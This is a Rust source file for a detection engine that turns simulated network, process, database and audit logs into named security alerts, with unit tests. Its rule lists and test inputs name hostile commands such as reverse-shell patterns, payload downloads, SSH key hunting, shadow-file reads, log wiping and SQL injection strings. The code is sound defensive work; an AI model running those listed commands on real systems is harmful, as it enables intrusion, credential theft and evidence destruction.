@@ -1,0 +1,780 @@
+//! Symbolization: raw log records → alerts.
+//!
+//! §II-A: *"each log message is assigned a symbolic name indicating the
+//! attacker's intention ... For example, the raw log `23:15:22
+//! [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK" [7036]` ... is
+//! represented by a symbol `alert_download_sensitive` and metadata."*
+//!
+//! The [`Symbolizer`] is a deterministic rule engine: for each record kind
+//! it applies an ordered list of wildcard-pattern rules and emits zero or
+//! more [`Alert`]s with sanitized messages and provenance metadata.
+
+use std::net::Ipv4Addr;
+
+use simnet::addr::Cidr;
+use simnet::flow::{Direction, Proto, Service};
+use simnet::rng::FxHashSet;
+use telemetry::record::{
+    ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord,
+    SshRecord,
+};
+
+use crate::alert::{Alert, Entity};
+use crate::pattern::{matches_any, Pattern};
+use crate::sanitize::{contains_pii, sanitize, SanitizeConfig};
+use crate::taxonomy::AlertKind;
+
+/// Configuration for the symbolization rules.
+#[derive(Debug, Clone)]
+pub struct SymbolizerConfig {
+    /// Honeypot ghost accounts planted in the identity provider (§IV-B).
+    pub ghost_accounts: Vec<String>,
+    /// Default/advertised database accounts (§IV-B "default 'admin'
+    /// password").
+    pub default_db_users: Vec<String>,
+    /// Known command-and-control endpoints (threat intel feed).
+    pub c2_addresses: FxHashSet<Ipv4Addr>,
+    /// URI patterns present in the malware database.
+    pub malware_uri_patterns: Vec<Pattern>,
+    /// Internal networks, for direction checks on app-layer records.
+    pub internal_nets: Vec<Cidr>,
+    /// Outbound byte count that counts as anomalous volume.
+    pub anomalous_bytes: u64,
+    /// Outbound byte count that counts as confirmed exfiltration (critical).
+    pub exfil_bytes: u64,
+    /// Inclusive local-hour range flagged as unusual login time.
+    pub odd_hours: (u32, u32),
+    /// Message sanitization settings.
+    pub sanitize: SanitizeConfig,
+}
+
+impl Default for SymbolizerConfig {
+    fn default() -> Self {
+        SymbolizerConfig {
+            ghost_accounts: vec!["svcbackup".into(), "gridftp".into()],
+            default_db_users: vec!["postgres".into(), "admin".into()],
+            c2_addresses: FxHashSet::default(),
+            malware_uri_patterns: vec![
+                Pattern::new("*/ldr.sh*"),
+                Pattern::new("*/sys.x86_64*"),
+                Pattern::new("*/kinsing*"),
+                Pattern::new("*/xmrig*"),
+            ],
+            internal_nets: vec![simnet::addr::ncsa_production(), simnet::addr::ncsa_secondary()],
+            anomalous_bytes: 512 * 1024 * 1024,
+            exfil_bytes: 8 * 1024 * 1024 * 1024,
+            odd_hours: (0, 4),
+            sanitize: SanitizeConfig::default(),
+        }
+    }
+}
+
+/// Ordered process-cmdline rules: first match wins.
+fn exec_rules() -> &'static [(&'static [&'static str], AlertKind)] {
+    &[
+        (&["*base64 -d*", "*base64 --decode*"], AlertKind::Base64DecodeExec),
+        (&["insmod *", "*modprobe *"], AlertKind::KernelModuleLoaded),
+        (
+            &["make -C /lib/modules*", "*make*modules*", "*kbuild*"],
+            AlertKind::CompileKernelModule,
+        ),
+        (
+            &["wget *.c*", "wget *.sh*", "wget *.x86_64*", "curl *.c*", "curl *.sh*"],
+            AlertKind::DownloadSensitive,
+        ),
+        (
+            &["find * id_rsa*", "find * -name *id_rsa*", "*grep *IdentityFile*"],
+            AlertKind::SshKeyEnumeration,
+        ),
+        (&["*known_hosts*"], AlertKind::KnownHostsEnumeration),
+        (&["*bash_history*"], AlertKind::BashHistoryAccess),
+        (&["*/etc/shadow*", "*/etc/passwd*"], AlertKind::PasswordFileAccess),
+        (&["*nc -e*", "*bash -i >&*", "*sh -i >&*"], AlertKind::ReverseShellPattern),
+        (&["*xmrig*", "*minerd*", "*kdevtmpfsi*"], AlertKind::CryptominerDeployed),
+        (
+            &["ssh -oStrictHostKeyChecking=no*", "*-oBatchMode=yes*"],
+            AlertKind::LateralMovementAttempt,
+        ),
+        (&["echo 0>/var/log/*", "echo 0>/var/spool/mail/*", "shred */var/log/*"], AlertKind::LogWipe),
+        (&["history -c*"], AlertKind::HistoryCleared),
+        (&["touch -t *", "touch -r *"], AlertKind::TimestampTampering),
+        (&["crontab *"], AlertKind::CronEntryAdded),
+        (&["systemctl enable *", "chkconfig * on*"], AlertKind::NewServiceInstall),
+        (&["gcc *", "cc *", "make *"], AlertKind::CompileSource),
+    ]
+}
+
+/// The symbolization engine.
+#[derive(Debug, Clone)]
+pub struct Symbolizer {
+    cfg: SymbolizerConfig,
+    alerts_emitted: u64,
+}
+
+impl Symbolizer {
+    pub fn new(cfg: SymbolizerConfig) -> Self {
+        Symbolizer { cfg, alerts_emitted: 0 }
+    }
+
+    pub fn with_defaults() -> Self {
+        Self::new(SymbolizerConfig::default())
+    }
+
+    pub fn config(&self) -> &SymbolizerConfig {
+        &self.cfg
+    }
+
+    pub fn alerts_emitted(&self) -> u64 {
+        self.alerts_emitted
+    }
+
+    fn is_internal(&self, addr: Ipv4Addr) -> bool {
+        self.cfg.internal_nets.iter().any(|n| n.contains(addr))
+    }
+
+    fn msg(&self, raw: &str) -> String {
+        sanitize(&self.cfg.sanitize, raw)
+    }
+
+    /// Symbolize one record, appending alerts to `out`. Returns the number
+    /// of alerts produced.
+    pub fn symbolize_into(&mut self, r: &LogRecord, out: &mut Vec<Alert>) -> usize {
+        let before = out.len();
+        match r {
+            LogRecord::Conn(c) => self.on_conn(c, out),
+            LogRecord::Http(h) => self.on_http(h, out),
+            LogRecord::Ssh(s) => self.on_ssh(s, out),
+            LogRecord::Notice(n) => self.on_notice(n, out),
+            LogRecord::Process(p) => self.on_process(p, out),
+            LogRecord::File(f) => self.on_file(f, out),
+            LogRecord::Db(d) => self.on_db(d, out),
+            LogRecord::Auth(_) => {
+                // SSH auth alerts are derived from the Zeek ssh stream; the
+                // host auth log is corroboration, not a second alert source.
+            }
+            LogRecord::Audit(a) => self.on_audit(a, out),
+        }
+        let produced = out.len() - before;
+        self.alerts_emitted += produced as u64;
+        produced
+    }
+
+    /// Convenience wrapper returning a fresh vector.
+    pub fn symbolize(&mut self, r: &LogRecord) -> Vec<Alert> {
+        let mut out = Vec::new();
+        self.symbolize_into(r, &mut out);
+        out
+    }
+
+    fn on_conn(&self, c: &ConnRecord, out: &mut Vec<Alert>) {
+        let entity = Entity::Address(c.orig_h);
+        if c.conn_state.probe_like() {
+            let kind = match c.direction {
+                Direction::Outbound => AlertKind::OutboundScanning,
+                _ if c.resp_p == Service::Postgres.default_port() => AlertKind::RepeatedProbeDb,
+                _ => AlertKind::PortScan,
+            };
+            out.push(
+                Alert::new(c.ts, kind, entity)
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg(&format!(
+                        "{} probe {}:{} state={}",
+                        c.proto, c.resp_h, c.resp_p, c.conn_state
+                    ))),
+            );
+            return;
+        }
+        if !c.conn_state.established() {
+            return;
+        }
+        if self.cfg.c2_addresses.contains(&c.resp_h) {
+            out.push(
+                Alert::new(c.ts, AlertKind::C2Communication, entity.clone())
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg(&format!("beacon to known C2 {}:{}", c.resp_h, c.resp_p))),
+            );
+        }
+        if c.service == Service::Irc {
+            out.push(
+                Alert::new(c.ts, AlertKind::IrcConnection, entity.clone())
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg("irc connection")),
+            );
+        }
+        if matches!(c.resp_p, 9001 | 9030) {
+            out.push(
+                Alert::new(c.ts, AlertKind::TorConnection, entity.clone())
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg("tor relay connection")),
+            );
+        }
+        if c.proto == Proto::Icmp && c.orig_bytes > 64 * 1024 {
+            out.push(
+                Alert::new(c.ts, AlertKind::IcmpTunnelSuspected, entity.clone())
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg(&format!("icmp payload volume {}B", c.orig_bytes))),
+            );
+        }
+        if c.service == Service::Dns && c.orig_bytes > 1024 * 1024 {
+            out.push(
+                Alert::new(c.ts, AlertKind::DnsTunnelSuspected, entity.clone())
+                    .with_src(c.orig_h)
+                    .with_dst(c.resp_h)
+                    .with_message(self.msg(&format!("dns query volume {}B", c.orig_bytes))),
+            );
+        }
+        if c.direction == Direction::Outbound {
+            if c.orig_bytes >= self.cfg.exfil_bytes {
+                out.push(
+                    Alert::new(c.ts, AlertKind::DataExfiltration, entity)
+                        .with_src(c.orig_h)
+                        .with_dst(c.resp_h)
+                        .with_message(self.msg(&format!("outbound transfer {}B", c.orig_bytes))),
+                );
+            } else if c.orig_bytes >= self.cfg.anomalous_bytes {
+                out.push(
+                    Alert::new(c.ts, AlertKind::AnomalousDataVolume, entity)
+                        .with_src(c.orig_h)
+                        .with_dst(c.resp_h)
+                        .with_message(self.msg(&format!("outbound transfer {}B", c.orig_bytes))),
+                );
+            }
+        }
+    }
+
+    fn on_http(&self, h: &HttpRecord, out: &mut Vec<Alert>) {
+        let entity = Entity::Address(h.orig_h);
+        let raw = format!("{} {}{} ({})", h.method, h.host, h.uri, h.status);
+        if matches_any(&self.cfg.malware_uri_patterns, &h.uri) {
+            out.push(
+                Alert::new(h.ts, AlertKind::KnownMalwareDownload, entity.clone())
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+            return;
+        }
+        let source_ext = [".c", ".sh", ".pl", ".py"].iter().any(|e| h.uri.ends_with(e));
+        let binary_mime =
+            matches!(h.mime.as_str(), "application/x-executable" | "application/x-elf");
+        if source_ext && h.status == 200 {
+            // Source fetched over plaintext HTTP: step 1 of the S1 pattern.
+            out.push(
+                Alert::new(h.ts, AlertKind::DownloadSensitive, entity.clone())
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+        } else if binary_mime && h.status == 200 {
+            out.push(
+                Alert::new(h.ts, AlertKind::DownloadBinaryUnknown, entity.clone())
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+        }
+        if crate::pattern::glob_match("*' OR *", &h.uri)
+            || crate::pattern::glob_match("*UNION SELECT*", &h.uri)
+        {
+            out.push(
+                Alert::new(h.ts, AlertKind::SqlInjectionProbe, entity.clone())
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+        }
+        if crate::pattern::glob_match("*.action*", &h.uri) {
+            // Apache Struts portal scan (Insight 3's example).
+            out.push(
+                Alert::new(h.ts, AlertKind::VulnScan, entity.clone())
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+        }
+        if self.is_internal(h.orig_h) && !self.is_internal(h.resp_h) && contains_pii(&h.uri) {
+            // Critical: personally identifiable information leaving in an
+            // outgoing HTTP request (Insight 4's example).
+            out.push(
+                Alert::new(h.ts, AlertKind::PiiInOutboundHttp, entity)
+                    .with_src(h.orig_h)
+                    .with_dst(h.resp_h)
+                    .with_message(self.msg(&raw)),
+            );
+        }
+    }
+
+    fn on_ssh(&self, s: &SshRecord, out: &mut Vec<Alert>) {
+        let entity = Entity::User(s.user.clone());
+        if !s.success {
+            out.push(
+                Alert::new(s.ts, AlertKind::LoginFailed, entity)
+                    .with_src(s.orig_h)
+                    .with_dst(s.resp_h)
+                    .with_message(self.msg(&format!("failed ssh auth from {}", s.orig_h))),
+            );
+            return;
+        }
+        let mut flagged = false;
+        if self.cfg.ghost_accounts.iter().any(|g| g == &s.user) {
+            flagged = true;
+            out.push(
+                Alert::new(s.ts, AlertKind::GhostAccountLogin, entity.clone())
+                    .with_src(s.orig_h)
+                    .with_dst(s.resp_h)
+                    .with_message(self.msg(&format!("ghost account {} login", s.user))),
+            );
+        }
+        if s.direction == Direction::Internal {
+            flagged = true;
+            out.push(
+                Alert::new(s.ts, AlertKind::InternalPivotLogin, entity.clone())
+                    .with_src(s.orig_h)
+                    .with_dst(s.resp_h)
+                    .with_message(self.msg(&format!("internal ssh {} -> {}", s.orig_h, s.resp_h))),
+            );
+        }
+        let hour = s.ts.time_of_day().0;
+        if hour >= self.cfg.odd_hours.0 && hour <= self.cfg.odd_hours.1 {
+            flagged = true;
+            out.push(
+                Alert::new(s.ts, AlertKind::LoginUnusualHour, entity.clone())
+                    .with_src(s.orig_h)
+                    .with_dst(s.resp_h)
+                    .with_message(self.msg(&format!("login at {hour:02}h"))),
+            );
+        }
+        if !flagged {
+            out.push(
+                Alert::new(s.ts, AlertKind::LoginSuccess, entity)
+                    .with_src(s.orig_h)
+                    .with_dst(s.resp_h)
+                    .with_message(self.msg("ssh login")),
+            );
+        }
+    }
+
+    fn on_notice(&self, n: &NoticeRecord, out: &mut Vec<Alert>) {
+        let entity = Entity::Address(n.src);
+        let kind = match &n.note {
+            NoticeKind::AddressScan => Some(AlertKind::AddressSweep),
+            NoticeKind::PortScan => Some(AlertKind::PortScan),
+            NoticeKind::PasswordGuessing => Some(AlertKind::BruteForcePassword),
+            NoticeKind::ExecutableFromRawIp => Some(AlertKind::DownloadSensitive),
+            NoticeKind::Custom(sym) => AlertKind::from_symbol(sym),
+        };
+        if let Some(kind) = kind {
+            let mut a = Alert::new(n.ts, kind, entity)
+                .with_src(n.src)
+                .with_message(self.msg(&n.msg));
+            if let Some(d) = n.dst {
+                a = a.with_dst(d);
+            }
+            out.push(a);
+        }
+    }
+
+    fn on_process(&self, p: &ProcessRecord, out: &mut Vec<Alert>) {
+        for (patterns, kind) in exec_rules() {
+            if patterns.iter().any(|pat| crate::pattern::glob_match(pat, &p.cmdline)) {
+                out.push(
+                    Alert::new(p.ts, *kind, Entity::User(p.user.clone()))
+                        .with_host(p.host)
+                        .with_message(self.msg(&format!("[{}] {}", p.hostname, p.cmdline))),
+                );
+                return;
+            }
+        }
+    }
+
+    fn on_file(&self, f: &telemetry::record::FileRecord, out: &mut Vec<Alert>) {
+        use simnet::action::FileOp;
+        let entity = Entity::User(f.user.clone());
+        let push = |out: &mut Vec<Alert>, kind: AlertKind, msg: String| {
+            out.push(
+                Alert::new(f.ts, kind, entity.clone())
+                    .with_host(f.host)
+                    .with_message(self.msg(&msg)),
+            );
+        };
+        let deleting = matches!(f.op, FileOp::Delete | FileOp::Truncate);
+        if deleting && crate::pattern::glob_match("/var/log/*", &f.path) {
+            push(out, AlertKind::LogWipe, format!("wipe {}", f.path));
+        } else if deleting && crate::pattern::glob_match("/var/spool/mail/*", &f.path) {
+            push(out, AlertKind::LogWipe, format!("wipe {}", f.path));
+        } else if deleting && f.path.ends_with(".bash_history") {
+            push(out, AlertKind::HistoryCleared, format!("clear {}", f.path));
+        } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", &f.path) {
+            push(out, AlertKind::FileDropTmp, format!("drop {} by {}", f.path, f.process));
+        } else if matches!(f.op, FileOp::Create | FileOp::Modify)
+            && f.path.ends_with(".ssh/authorized_keys")
+        {
+            push(out, AlertKind::SshAuthorizedKeyAdded, format!("modify {}", f.path));
+        } else if f.op == FileOp::Create
+            && (crate::pattern::glob_match("*RANSOM*", &f.path)
+                || crate::pattern::glob_match("*ransom*", &f.path))
+        {
+            push(out, AlertKind::RansomNoteDropped, format!("note {}", f.path));
+        } else if f.op == FileOp::Create && f.path.ends_with(".encrypted") {
+            push(out, AlertKind::MassFileEncryption, format!("encrypt {}", f.path));
+        } else if crate::pattern::glob_match("/etc/cron*", &f.path) {
+            push(out, AlertKind::CronEntryAdded, format!("cron {}", f.path));
+        }
+    }
+
+    fn on_db(&self, d: &DbRecord, out: &mut Vec<Alert>) {
+        use simnet::action::DbCommandKind;
+        let entity = Entity::User(d.user.clone());
+        let mut push = |kind: AlertKind, msg: String| {
+            let mut a = Alert::new(d.ts, kind, entity.clone())
+                .with_src(d.orig_h)
+                .with_dst(d.resp_h)
+                .with_message(self.msg(&msg));
+            if let Some(h) = d.host {
+                a = a.with_host(h);
+            }
+            out.push(a);
+        };
+        match &d.command {
+            DbCommandKind::Auth { success } => {
+                if *success && self.cfg.default_db_users.iter().any(|u| u == &d.user) {
+                    push(
+                        AlertKind::DefaultCredentialUse,
+                        format!("db auth as default account {}", d.user),
+                    );
+                } else if !success {
+                    push(AlertKind::LoginFailed, format!("db auth failed for {}", d.user));
+                }
+            }
+            DbCommandKind::ShowVersion => {
+                push(AlertKind::DbVersionRecon, d.statement.clone());
+            }
+            DbCommandKind::LargeObjectWrite { hex_prefix, bytes } => {
+                if hex_prefix.starts_with("7F454C46") {
+                    push(
+                        AlertKind::ElfMagicInDbBlob,
+                        format!("largeobject ELF payload ({bytes}B) prefix={hex_prefix}"),
+                    );
+                }
+            }
+            DbCommandKind::LoExport { path } => {
+                push(AlertKind::LoExportExecution, format!("lo_export to {path}"));
+            }
+            DbCommandKind::CopyFromProgram { program } => {
+                push(AlertKind::RemoteCodeExecAttempt, format!("COPY FROM PROGRAM '{program}'"));
+            }
+            DbCommandKind::Query => {
+                if crate::pattern::glob_match("*' OR *", &d.statement)
+                    || crate::pattern::glob_match("*UNION SELECT*", &d.statement)
+                {
+                    push(AlertKind::SqlInjectionProbe, d.statement.clone());
+                }
+            }
+        }
+    }
+
+    fn on_audit(&self, a: &telemetry::record::AuditRecord, out: &mut Vec<Alert>) {
+        if a.syscall == "setuid" && a.args.contains('0') && a.exit_code == 0 && a.user != "root" {
+            out.push(
+                Alert::new(a.ts, AlertKind::PrivilegeEscalation, Entity::User(a.user.clone()))
+                    .with_host(a.host)
+                    .with_message(self.msg(&format!("[{}] setuid(0) by {}", a.hostname, a.user))),
+            );
+        } else if a.syscall == "ptrace" && a.args.contains("osquery") {
+            out.push(
+                Alert::new(a.ts, AlertKind::MonitorTampering, Entity::User(a.user.clone()))
+                    .with_host(a.host)
+                    .with_message(self.msg(&format!("[{}] ptrace on monitor", a.hostname))),
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use simnet::flow::{ConnState, FlowId};
+    use simnet::time::{SimDuration, SimTime};
+    use simnet::topology::HostId;
+
+    fn sym() -> Symbolizer {
+        Symbolizer::with_defaults()
+    }
+
+    fn conn(
+        state: ConnState,
+        dir: Direction,
+        src: &str,
+        dst: &str,
+        dport: u16,
+        orig_bytes: u64,
+    ) -> LogRecord {
+        LogRecord::Conn(ConnRecord {
+            ts: SimTime::from_secs(10),
+            uid: FlowId(1),
+            orig_h: src.parse().unwrap(),
+            orig_p: 40_000,
+            resp_h: dst.parse().unwrap(),
+            resp_p: dport,
+            proto: Proto::Tcp,
+            service: Service::from_port(dport),
+            duration: SimDuration::from_secs(1),
+            orig_bytes,
+            resp_bytes: 100,
+            conn_state: state,
+            direction: dir,
+        })
+    }
+
+    #[test]
+    fn probe_becomes_port_scan() {
+        let alerts =
+            sym().symbolize(&conn(ConnState::S0, Direction::Inbound, "103.102.1.1", "141.142.2.1", 22, 0));
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].kind, AlertKind::PortScan);
+    }
+
+    #[test]
+    fn postgres_probe_becomes_db_probe() {
+        let alerts = sym()
+            .symbolize(&conn(ConnState::S0, Direction::Inbound, "111.200.1.1", "141.142.77.5", 5432, 0));
+        assert_eq!(alerts[0].kind, AlertKind::RepeatedProbeDb);
+    }
+
+    #[test]
+    fn outbound_probe_is_outbound_scanning() {
+        let alerts = sym()
+            .symbolize(&conn(ConnState::S0, Direction::Outbound, "141.142.2.1", "8.8.8.8", 22, 0));
+        assert_eq!(alerts[0].kind, AlertKind::OutboundScanning);
+    }
+
+    #[test]
+    fn c2_connection_detected() {
+        let mut cfg = SymbolizerConfig::default();
+        cfg.c2_addresses.insert("194.145.9.9".parse().unwrap());
+        let mut s = Symbolizer::new(cfg);
+        let alerts =
+            s.symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.77.5", "194.145.9.9", 443, 100));
+        assert!(alerts.iter().any(|a| a.kind == AlertKind::C2Communication));
+    }
+
+    #[test]
+    fn exfil_thresholds() {
+        let big = 10 * 1024 * 1024 * 1024;
+        let alerts =
+            sym().symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.2.1", "5.5.5.5", 443, big));
+        assert!(alerts.iter().any(|a| a.kind == AlertKind::DataExfiltration));
+        let mid = 600 * 1024 * 1024;
+        let alerts =
+            sym().symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.2.1", "5.5.5.5", 443, mid));
+        assert!(alerts.iter().any(|a| a.kind == AlertKind::AnomalousDataVolume));
+    }
+
+    #[test]
+    fn http_source_download_is_sensitive() {
+        let r = LogRecord::Http(HttpRecord {
+            ts: SimTime::from_secs(5),
+            uid: FlowId(2),
+            orig_h: "141.142.2.5".parse().unwrap(),
+            resp_h: "64.215.4.5".parse().unwrap(),
+            method: "GET".into(),
+            host: "64.215.4.5".into(),
+            uri: "/abs.c".into(),
+            status: 200,
+            mime: "text/x-c".into(),
+            user_agent: "Wget/1.21".into(),
+        });
+        let alerts = sym().symbolize(&r);
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
+        // Message sanitized: masked IP.
+        assert!(alerts[0].message.contains("64.215.xxx.yyy"));
+    }
+
+    #[test]
+    fn known_malware_uri_short_circuits() {
+        let r = LogRecord::Http(HttpRecord {
+            ts: SimTime::from_secs(5),
+            uid: FlowId(2),
+            orig_h: "141.142.77.5".parse().unwrap(),
+            resp_h: "194.145.4.5".parse().unwrap(),
+            method: "GET".into(),
+            host: "194.145.4.5".into(),
+            uri: "/ldr.sh?e7945e_postgres:postgres".into(),
+            status: 200,
+            mime: "text/x-shellscript".into(),
+            user_agent: "curl/8".into(),
+        });
+        let alerts = sym().symbolize(&r);
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].kind, AlertKind::KnownMalwareDownload);
+    }
+
+    #[test]
+    fn pii_in_outbound_http_is_critical() {
+        let r = LogRecord::Http(HttpRecord {
+            ts: SimTime::from_secs(5),
+            uid: FlowId(2),
+            orig_h: "141.142.2.5".parse().unwrap(),
+            resp_h: "5.5.5.5".parse().unwrap(),
+            method: "POST".into(),
+            host: "5.5.5.5".into(),
+            uri: "/upload?ssn=123456789&mail=a@b.com".into(),
+            status: 200,
+            mime: "text/html".into(),
+            user_agent: "curl/8".into(),
+        });
+        let alerts = sym().symbolize(&r);
+        assert!(alerts.iter().any(|a| a.kind == AlertKind::PiiInOutboundHttp && a.is_critical()));
+    }
+
+    #[test]
+    fn ssh_alerts() {
+        let rec = |success, dir, hour| {
+            LogRecord::Ssh(SshRecord {
+                ts: SimTime::from_datetime(2024, 10, 30, hour, 0, 0),
+                uid: FlowId(3),
+                orig_h: "132.1.2.3".parse().unwrap(),
+                resp_h: "141.142.1.1".parse().unwrap(),
+                user: "alice".into(),
+                method: simnet::action::AuthMethod::Password,
+                success,
+                client_banner: "OpenSSH".into(),
+                direction: dir,
+            })
+        };
+        assert_eq!(sym().symbolize(&rec(false, Direction::Inbound, 12))[0].kind, AlertKind::LoginFailed);
+        assert_eq!(sym().symbolize(&rec(true, Direction::Inbound, 12))[0].kind, AlertKind::LoginSuccess);
+        let odd = sym().symbolize(&rec(true, Direction::Inbound, 3));
+        assert!(odd.iter().any(|a| a.kind == AlertKind::LoginUnusualHour));
+        let pivot = sym().symbolize(&rec(true, Direction::Internal, 12));
+        assert!(pivot.iter().any(|a| a.kind == AlertKind::InternalPivotLogin));
+    }
+
+    #[test]
+    fn ghost_account_flagged() {
+        let r = LogRecord::Ssh(SshRecord {
+            ts: SimTime::from_datetime(2024, 10, 30, 12, 0, 0),
+            uid: FlowId(3),
+            orig_h: "132.1.2.3".parse().unwrap(),
+            resp_h: "141.142.1.1".parse().unwrap(),
+            user: "svcbackup".into(),
+            method: simnet::action::AuthMethod::PublicKey,
+            success: true,
+            client_banner: "OpenSSH".into(),
+            direction: Direction::Inbound,
+        });
+        let alerts = sym().symbolize(&r);
+        assert!(alerts.iter().any(|a| a.kind == AlertKind::GhostAccountLogin));
+    }
+
+    #[test]
+    fn process_rules_fire_in_order() {
+        let proc = |cmd: &str| {
+            LogRecord::Process(ProcessRecord {
+                ts: SimTime::from_secs(1),
+                host: HostId(0),
+                hostname: "cn01".into(),
+                user: "eve".into(),
+                pid: 1,
+                ppid: 0,
+                exe: "/bin/sh".into(),
+                cmdline: cmd.into(),
+            })
+        };
+        let k = |cmd: &str| sym().symbolize(&proc(cmd)).first().map(|a| a.kind);
+        assert_eq!(k("wget http://64.215.4.5/abs.c"), Some(AlertKind::DownloadSensitive));
+        assert_eq!(k("make -C /lib/modules/5.4/build modules"), Some(AlertKind::CompileKernelModule));
+        assert_eq!(k("make all"), Some(AlertKind::CompileSource));
+        assert_eq!(k("insmod rootkit.ko"), Some(AlertKind::KernelModuleLoaded));
+        assert_eq!(
+            k("find ~/ /root /home -maxdepth 2 -name id_rsa*"),
+            Some(AlertKind::SshKeyEnumeration)
+        );
+        assert_eq!(k("cat /home/x/.ssh/known_hosts"), Some(AlertKind::KnownHostsEnumeration));
+        assert_eq!(
+            k("ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@141.142.2.9"),
+            Some(AlertKind::LateralMovementAttempt)
+        );
+        assert_eq!(k("echo 0>/var/log/wtmp"), Some(AlertKind::LogWipe));
+        assert_eq!(k("ls -la"), None);
+    }
+
+    #[test]
+    fn db_command_alerts() {
+        use simnet::action::DbCommandKind;
+        let db = |command: DbCommandKind, stmt: &str, user: &str| {
+            LogRecord::Db(DbRecord {
+                ts: SimTime::from_secs(1),
+                uid: FlowId(4),
+                orig_h: "111.200.1.1".parse().unwrap(),
+                resp_h: "141.142.77.5".parse().unwrap(),
+                host: Some(HostId(9)),
+                user: user.into(),
+                command,
+                statement: stmt.into(),
+            })
+        };
+        let mut s = sym();
+        let a = s.symbolize(&db(DbCommandKind::ShowVersion, "SHOW server_version_num", "postgres"));
+        assert_eq!(a[0].kind, AlertKind::DbVersionRecon);
+        let a = s.symbolize(&db(
+            DbCommandKind::LargeObjectWrite { hex_prefix: "7F454C46".into(), bytes: 50_000 },
+            "lo_from_bytea",
+            "postgres",
+        ));
+        assert_eq!(a[0].kind, AlertKind::ElfMagicInDbBlob);
+        let a = s.symbolize(&db(
+            DbCommandKind::LoExport { path: "/tmp/kp".into() },
+            "select lo_export(1, '/tmp/kp')",
+            "postgres",
+        ));
+        assert_eq!(a[0].kind, AlertKind::LoExportExecution);
+        let a = s.symbolize(&db(DbCommandKind::Auth { success: true }, "auth", "postgres"));
+        assert_eq!(a[0].kind, AlertKind::DefaultCredentialUse);
+    }
+
+    #[test]
+    fn audit_priv_escalation() {
+        let r = LogRecord::Audit(telemetry::record::AuditRecord {
+            ts: SimTime::from_secs(1),
+            host: HostId(0),
+            hostname: "cn01".into(),
+            user: "eve".into(),
+            syscall: "setuid".into(),
+            args: "uid=0".into(),
+            exit_code: 0,
+        });
+        let alerts = sym().symbolize(&r);
+        assert_eq!(alerts[0].kind, AlertKind::PrivilegeEscalation);
+        assert!(alerts[0].is_critical());
+    }
+
+    #[test]
+    fn custom_notice_maps_via_symbol() {
+        let r = LogRecord::Notice(NoticeRecord {
+            ts: SimTime::from_secs(1),
+            note: NoticeKind::Custom("alert_lateral_movement".into()),
+            msg: "site policy".into(),
+            src: "141.142.77.5".parse().unwrap(),
+            dst: None,
+            sub: String::new(),
+        });
+        let alerts = sym().symbolize(&r);
+        assert_eq!(alerts[0].kind, AlertKind::LateralMovementAttempt);
+    }
+
+    #[test]
+    fn counters_track_emissions() {
+        let mut s = sym();
+        let r = conn(ConnState::S0, Direction::Inbound, "1.1.1.1", "141.142.2.1", 22, 0);
+        s.symbolize(&r);
+        s.symbolize(&r);
+        assert_eq!(s.alerts_emitted(), 2);
+    }
+}
